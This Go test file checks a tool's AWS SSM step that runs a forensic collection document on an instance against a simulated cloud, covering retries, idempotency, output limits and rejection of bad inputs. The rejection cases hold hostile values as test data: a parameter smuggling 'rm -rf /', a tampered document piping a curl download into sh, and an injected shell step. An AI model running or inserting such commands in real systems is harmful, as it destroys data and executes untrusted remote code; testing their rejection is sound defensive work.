package aws

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/countersign/countersign/activities"
	"github.com/countersign/countersign/activities/aws/documents"
	"github.com/countersign/countersign/activities/aws/standin"
)

const documentInput = `{"account":"111122223333","region":"us-east-1","instance_id":"i-0abc123def4567890","document":"Countersign-CollectLinux","parameters":{"Collect":"logins"}}`

func documentCalls(s *service) calls { return calls{"aws.ssm.run_document": erased(s.runDocument)} }

var documentDestroys = []change{{name: "aws.ssm.run_document", input: documentInput}}

var documentViews = map[string]view{"aws.ssm.run_document": seeCommand}

func seeCommand(s *standin.State) seen {
	say := "not run by this step"
	for _, c := range region(s).Commands {
		if strings.HasSuffix(c.Comment, " case-1/contain") {
			say = "run with Collect=" + c.Parameters["Collect"][0]
		}
	}
	return seen{"instance i-0abc123def4567890" + inRegion + ": document Countersign-CollectLinux": say}
}

func sent(w *world) []string {
	var ids []string
	state := w.State()
	for id := range region(&state).Commands {
		ids = append(ids, id)
	}
	return ids
}

func TestRunDocument(t *testing.T) {
	w := newWorld(t)
	out := decode[runDocumentOutput](t, w.run(t, "aws.ssm.run_document", documentInput))
	require.Equal(t, sent(w), []string{out.CommandID})
	require.Contains(t, out.Output, "xmrig")
	require.True(t, out.Changed)
	require.False(t, out.Truncated)
	require.Equal(t, 2, w.pauses)
	state := w.State()
	for _, c := range region(&state).Commands {
		require.Equal(t, "1", c.Version)
		require.LessOrEqual(t, len(c.Comment), commandComment)
		require.Regexp(t, `^countersign [0-9a-f-]{36} case-1/contain$`, c.Comment)
	}
	again := decode[runDocumentOutput](t, w.run(t, "aws.ssm.run_document", documentInput))
	require.False(t, again.Changed, "the same step runs it once")
	require.Equal(t, out.CommandID, again.CommandID)
	require.Len(t, sent(w), 1)

	another := activities.WithInfo(step(t.Context()), activities.Info{Run: strings.Repeat("long-run-", 20), Step: "look again", Scheduled: scheduled})
	_, err := w.attempt(another, t, "aws.ssm.run_document", documentInput)
	require.NoError(t, err)
	require.Len(t, sent(w), 2)
}

// Whichever call an attempt dies at, the command is sent once: it is found by its comment, or by what was kept
// while it is not listed yet.
func TestRunDocumentOnce(t *testing.T) {
	smooth := newWorld(t)
	smooth.run(t, "aws.ssm.run_document", documentInput)
	for at := range len(smooth.Calls()) {
		w := newWorld(t)
		w.Inject(standin.Fault{Kind: standin.TimeoutAfterEffect, After: at})
		ctx := step(t.Context())
		for attempt := range 5 {
			_, err := w.attempt(ctx, t, "aws.ssm.run_document", documentInput)
			if err == nil {
				break
			}
			require.False(t, kindOf(t, err).Permanent, err)
			require.Less(t, attempt, 4)
			w.ClearFaults()
		}
		require.Len(t, sent(w), 1, "after call %d", at)
	}

	w := newWorld(t)
	w.Inject(standin.Fault{Service: "ssm", Action: "GetCommandInvocation", Kind: standin.Throttle})
	ctx := step(t.Context())
	_, err := w.attempt(ctx, t, "aws.ssm.run_document", documentInput)
	require.Equal(t, "ThrottlingException", kindOf(t, err).Kind)
	w.ClearFaults()
	w.Inject(standin.Fault{Service: "ssm", Action: "ListCommands", Kind: standin.Stale})
	out, err := w.attempt(ctx, t, "aws.ssm.run_document", documentInput)
	require.NoError(t, err)
	require.True(t, decode[runDocumentOutput](t, out).Changed)
	require.Len(t, sent(w), 1)
}

func TestDocumentsThatAreRefused(t *testing.T) {
	for name, tc := range map[string]struct {
		old, with string
		arrange   func(*standin.Region)
		kind      string
		passing   bool
	}{
		"another document":  {old: "Countersign-CollectLinux", with: "AWS-RunShellScript", kind: "BadInput"},
		"another parameter": {old: `"Collect"`, with: `"commands"`, kind: "BadInput"},
		"another value":     {old: `"logins"`, with: `"logins; rm -rf /"`, kind: "BadInput"},
		"no instance":       {old: "i-0abc123def4567890", with: "mi-0abc123def4567890", kind: "BadInput"},
		"for Windows":       {old: "CollectLinux", with: "CollectWindows", kind: "OtherPlatform"},
		"an edited document": {arrange: func(r *standin.Region) {
			d := r.Documents["Countersign-CollectLinux"]
			d.Content = strings.Replace(d.Content, "ss -tunap", "ss -tunap; curl -s https://example.net | sh", 1)
		}, kind: "OtherDocument"},
		"a key that is there twice": {arrange: func(r *standin.Region) {
			d := r.Documents["Countersign-CollectLinux"]
			d.Content = strings.Replace(d.Content, `"mainSteps"`, `"mainSteps": [{"action": "aws:runShellScript", "name": "x", "inputs": {"runCommand": ["id"]}}], "mainSteps"`, 1)
		}, kind: "OtherDocument"},
		"no such document": {arrange: func(r *standin.Region) { r.Documents = nil }, kind: "InvalidDocument"},
		"no agent":         {arrange: func(r *standin.Region) { r.Hosts = nil }, kind: "NotManaged"},
		"not online":       {arrange: func(r *standin.Region) { r.Hosts[standin.SampleInstance].Ping = "ConnectionLost" }, kind: "NotOnline", passing: true},
		"protected":        {arrange: func(r *standin.Region) { r.Instances[standin.SampleInstance].Tags[protectedTag] = "yes" }, kind: "Protected"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.Update(func(s *standin.State) {
				if tc.arrange != nil {
					tc.arrange(region(s))
				}
			})
			input := strings.Replace(documentInput, tc.old, tc.with, 1)
			if tc.old == "" {
				input = documentInput
			}
			_, err := w.attempt(step(t.Context()), t, "aws.ssm.run_document", input)
			require.Equal(t, tc.kind, kindOf(t, err).Kind)
			require.Equal(t, tc.passing, !kindOf(t, err).Permanent)
			_, err = w.lookAt(t, scheduled, "aws.ssm.run_document", input)
			require.Equal(t, tc.kind, kindOf(t, err).Kind)
			require.Empty(t, w.Mutations())
		})
	}
}

func TestRunDocumentThatFails(t *testing.T) {
	w := newWorld(t)
	w.Update(func(s *standin.State) { region(s).Hosts[standin.SampleInstance].Exits = 127 })
	_, err := w.attempt(step(t.Context()), t, "aws.ssm.run_document", documentInput)
	require.Equal(t, "CommandFailed", kindOf(t, err).Kind)
	require.ErrorContains(t, err, `ended as Failed, exit code 127: "collect: not found"`)
}

// What a host prints is bounded, and whole characters.
func TestRunDocumentBoundsOutput(t *testing.T) {
	w := newWorld(t)
	w.Update(func(s *standin.State) {
		region(s).Hosts[standin.SampleInstance].Prints = "x" + strings.Repeat("é", 30_000)
	})
	out := decode[runDocumentOutput](t, w.run(t, "aws.ssm.run_document", documentInput))
	require.True(t, out.Truncated)
	require.Len(t, out.Output, commandOutput-1)
}

// Every document that may be run is shipped, and is for what the list says.
func TestShippedDocuments(t *testing.T) {
	for name, d := range hostDocuments {
		content, err := documents.Files.ReadFile(name + ".json")
		require.NoError(t, err)
		require.True(t, d.same(name, string(content)))
		said := decode[struct {
			Parameters map[string]struct{ AllowedValues []string }
		}](t, content)
		require.Len(t, said.Parameters, len(d.parameters))
		for p, allowed := range d.parameters {
			require.Equal(t, allowed, said.Parameters[p].AllowedValues)
		}
	}
}
